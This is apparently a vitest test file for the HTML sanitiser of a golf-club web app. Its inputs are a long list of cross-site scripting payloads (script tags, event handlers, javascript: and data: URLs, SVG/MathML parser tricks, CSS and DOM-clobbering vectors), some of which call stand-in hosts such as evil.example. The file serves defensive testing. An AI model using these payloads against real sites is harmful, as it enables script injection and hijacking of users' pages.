/** What becomes of HTML that admins and golfers write: the allow-list lives, and nothing that runs, hides or reaches out. */
import { sanitiseHtml, sanitiseMarks } from '@fourball/domain/kernel/sanitise-html.ts';
import fc from 'fast-check';
import { expect, test } from 'vitest';

const plainTags = 'h1 h2 h3 h4 h5 h6 p blockquote ul ol li b strong i em u s'.split(' ');
const harmless = new Set([
  ...plainTags.flatMap((tag) => [`<${tag}>`, `</${tag}>`]),
  '<br />',
  '<hr />',
  '</a>',
]);
const link = /^<a(?: href="([^"]*)")?(?: target="_blank")? rel="noopener nofollow">$/;
const picture = /^<img src="\/images\/[\w./-]+" alt="[^"<>]*" \/>$/;
const schemes = new Set(['http:', 'https:', 'mailto:']);
const unescaped = (text: string) =>
  text
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&amp;/g, '&');

/** What of some HTML the allow-list does not know. A browser's own reading decides where a link goes. */
function harmIn(html: string): string[] {
  const tags = html.match(/<[^>]*>/g) ?? [];
  const harmful = tags.filter((tag) => {
    if (harmless.has(tag)) return false;
    if (picture.test(tag)) return tag.includes('..');
    const found = link.exec(tag);
    if (!found) return true;
    const href = unescaped(found[1] ?? '');
    return URL.canParse(href, 'https://club.example')
      ? !schemes.has(new URL(href, 'https://club.example').protocol)
      : false;
  });
  const rest = html.replace(/<[^>]*>/g, '');
  return /[<>]/.test(rest) ? [...harmful, rest] : harmful;
}

const lively = [
  // Scripts, plainly and in disguise.
  '<script>window.ran = true</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script\n>window.ran = true</script\n>',
  '<script/x>window.ran = true</script>',
  '<scr<script>ipt>window.ran = true</scr</script>ipt>',
  '<<script>script>window.ran = true<</script>/script>',
  '<script>window.ran = true',
  '<p>before<script>window.ran = true</p>',
  '</p><script>window.ran = true</script><p>',
  '\u0000<scr\u0000ipt>window.ran = true</script>',
  '&lt;script&gt;window.ran = true&lt;/script&gt;',
  // Handlers.
  '<img src=x onerror=window.ran=true>',
  '<img src="/images/a.jpg" onerror="window.ran = true">',
  '<img src="/images/a.jpg"onload="window.ran = true">',
  '<img/src=/images/a.jpg/onerror=window.ran=true>',
  '<img src=`x` onerror=`window.ran=true`>',
  '<img src="x` `<script>window.ran = true</script>"` `>',
  '<p onclick="window.ran = true">x</p>',
  '<p/onmouseover=window.ran=true>x',
  '<h1 onpointerenter="window.ran = true" tabindex=0 autofocus onfocus="window.ran = true">x</h1>',
  '<b onanimationstart="window.ran = true" style="animation-name: x">x</b>',
  '<body onload=window.ran=true>',
  '<video><source onerror="window.ran = true"></video>',
  '<audio src onloadstart=window.ran=true>',
  '<details open ontoggle=window.ran=true>',
  '<marquee onstart=window.ran=true>x</marquee>',
  '<input autofocus onfocus=window.ran=true>',
  '<button popovertarget=x onclick=window.ran=true>x</button>',
  // Addresses.
  '<a href="javascript:window.ran = true">x</a>',
  '<a href="JaVaScRiPt:window.ran = true">x</a>',
  '<a href=" \u0001javascript:window.ran = true">x</a>',
  '<a href="java\nscript:window.ran = true">x</a>',
  '<a href="java\tscript:window.ran = true">x</a>',
  '<a href="&#106;avascript:window.ran = true">x</a>',
  '<a href="&#x6A;&#x61;vascript&colon;window.ran = true">x</a>',
  '<a href="javascript&#0000058window.ran = true">x</a>',
  '<a href="javascript&NewLine;:window.ran = true">x</a>',
  '<a href="data:text/html,<script>window.ran = true</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://a.example\n"onmouseover=window.ran=true>x</a>',
  '<a href="https://a.example" target="_self" rel="opener" ping="https://evil.example">x</a>',
  '<a href="https://a.example" download onclick="window.ran = true">x</a>',
  '<a href=\'x" onclick="window.ran = true\'>x</a>',
  '<img src="javascript:window.ran = true">',
  '<img src="data:image/svg+xml,<svg onload=window.ran=true>">',
  '<img src="https://evil.example/pixel.gif?who">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="/images/../api/v1/logout">',
  '<img src="/images/%2e%2e/api">',
  '<img src="/images/a.jpg" srcset="https://evil.example/pixel.gif 2x">',
  '<img src="/images/a.jpg" alt="x&quot; onerror=&quot;window.ran=true">',
  '<form action="javascript:window.ran = true"><button>x</button></form>',
  '<form><button formaction="javascript:window.ran = true">x</button></form>',
  '<isindex action=javascript:window.ran=true type=image>',
  // Other worlds: SVG, MathML, and where parsers disagree.
  '<svg onload=window.ran=true>',
  '<svg><script>window.ran = true</script></svg>',
  '<svg><a xlink:href="javascript:window.ran = true"><text>x</text></a></svg>',
  '<svg><animate onbegin=window.ran=true attributeName=x></svg>',
  '<svg><style><img src=x onerror=window.ran=true></style></svg>',
  '<svg><foreignObject><p onclick=window.ran=true>x</p></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=window.ran=true>">',
  '<math><mi xlink:href="javascript:window.ran = true">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=true&gt;">',
  '<math><annotation-xml encoding="text/html"><p onclick=window.ran=true>x</p></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=true>',
  '<noscript><p title="</noscript><img src=x onerror=window.ran=true>">',
  '<textarea><img src=x onerror=window.ran=true></textarea>',
  '<title><img src=x onerror=window.ran=true></title>',
  '<xmp><img src=x onerror=window.ran=true></xmp>',
  '<noembed><img src=x onerror=window.ran=true></noembed>',
  '<plaintext><img src=x onerror=window.ran=true>',
  '<template><img src=x onerror=window.ran=true></template>',
  '<template shadowrootmode=open><script>window.ran = true</script></template>',
  '<select><style></select><img src=x onerror=window.ran=true></style>',
  '<table><td><script>window.ran = true</script></td></table>',
  '<!--[if gte IE 4]><script>window.ran = true</script><![endif]-->',
  '<!--><img src=x onerror=window.ran=true>-->',
  '<!-- --!><img src=x onerror=window.ran=true>-->',
  '<![CDATA[<img src=x onerror=window.ran=true>]]>',
  '<?xml-stylesheet href="javascript:window.ran = true"?>',
  '<x/><custom-tag onclick=window.ran=true>x</custom-tag>',
  // Frames, styles and what steers the whole page.
  '<iframe src="javascript:window.ran = true"></iframe>',
  '<iframe srcdoc="<script>window.ran = true</script>"></iframe>',
  '<object data="javascript:window.ran = true"></object>',
  '<embed src="javascript:window.ran = true">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; * { display: none }</style>',
  '<p style="background: url(javascript:window.ran=true)">x</p>',
  '<p style="width: expression(window.ran=true)">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<meta http-equiv=refresh content="0;url=javascript:window.ran = true">',
  '<base href="https://evil.example/">',
  '<dialog open>Please log in again</dialog>',
  // Names that would stand in for the page's own.
  '<a id="root" name="root" href="/x">x</a>',
  '<img name="getElementById" src="/images/a.jpg">',
  '<form id="config"><input name="token"></form>',
  '<p id="__proto__" class="mantine-Modal-overlay" data-portal="true" slot="x" is="x">x</p>',
  '<p contenteditable itemprop=x hidden role=dialog aria-label=x>x</p>',
] as const;

test.each(lively)('%j comes out harmless', (html) => {
  expect(harmIn(sanitiseHtml(html))).toEqual([]);
  expect(sanitiseHtml(sanitiseHtml(html))).toBe(sanitiseHtml(html));
  expect(sanitiseMarks(html)).not.toMatch(/<(?!\/?(?:b|strong|i|em|u|s)>|br \/>)/);
});

test.each([
  ['plain', 'plain'],
  ['  a < b & c > d ', 'a &lt; b &amp; c &gt; d'],
  [
    '<h2>Rules</h2><p>Play <b>fast</b>, <em>fair</em>.</p>',
    '<h2>Rules</h2><p>Play <b>fast</b>, <em>fair</em>.</p>',
  ],
  ['<ul><li>one<li>two</ul>', '<ul><li>one</li><li>two</li></ul>'],
  ['<blockquote>Fore!</blockquote><hr>', '<blockquote>Fore!</blockquote><hr />'],
  ['<u>u</u><s>s</s><br>', '<u>u</u><s>s</s><br />'],
  ['<p>open', '<p>open</p>'],
  ['<div><p>inside</p></div>', '<p>inside</p>'],
  [
    '<a href="https://club.example/a?b=1&c=2" class="x">there</a>',
    '<a href="https://club.example/a?b=1&amp;c=2" target="_blank" rel="noopener nofollow">there</a>',
  ],
  [
    '<a href="mailto:club@club.example">mail</a>',
    '<a href="mailto:club@club.example" rel="noopener nofollow">mail</a>',
  ],
  ['<a href="/events">here</a>', '<a href="/events" rel="noopener nofollow">here</a>'],
  ['<a href="javascript:x">nowhere</a>', '<a rel="noopener nofollow">nowhere</a>'],
  [
    '<img src="/images/global/a-1.jpg" alt="The 18th">',
    '<img src="/images/global/a-1.jpg" alt="The 18th" />',
  ],
  ['<img src="/images/global/a-1.jpg">', '<img src="/images/global/a-1.jpg" alt="" />'],
  ['<p>a<img src="https://other.example/a.jpg">b</p>', '<p>ab</p>'],
  ['<script>gone</script>stays', 'stays'],
  ['⛳ see you at 7', '⛳ see you at 7'],
])('%j becomes %j', (html, clean) => {
  expect(sanitiseHtml(html)).toBe(clean);
});

test('a thousand tags inside each other end at forty', () => {
  const deep = sanitiseHtml('<b>'.repeat(1000) + 'x');
  expect(deep.match(/<b>/g)?.length).toBeLessThanOrEqual(40);
  expect(deep).toContain('x');
});

test.each([
  ['<h1>Big</h1>', 'Big'],
  ['Play <b>golf</b> & <a href="/x">win</a>', 'Play <b>golf</b> &amp; win'],
])('of %j the marks alone are %j', (html, clean) => {
  expect(sanitiseMarks(html)).toBe(clean);
});

const pieces = fc.oneof(
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 8 }) },
  fc.constantFrom(...lively),
  fc.constantFrom(
    '<',
    '>',
    '"',
    "'",
    '&',
    ';',
    '/',
    '=',
    '\n',
    '\t',
    ' ',
    '<!--',
    '-->',
    '<![CDATA[',
    ']]>',
    '`',
  ),
  fc.constantFrom(
    '<a ',
    'href="',
    'https:',
    'javascript:',
    'on',
    '<b',
    '<p>',
    '</',
    '<img src="/images/',
    '&lt;',
    '&#60;',
  ),
);

test('whatever is written, what comes out is of the allow-list, also when it is read and written again', () => {
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 12 }), (parts) => {
      const once = sanitiseHtml(parts.join(''));
      expect(harmIn(once)).toEqual([]);
      expect(harmIn(sanitiseHtml(once))).toEqual([]);
    }),
    { numRuns: 1500 },
  );
});
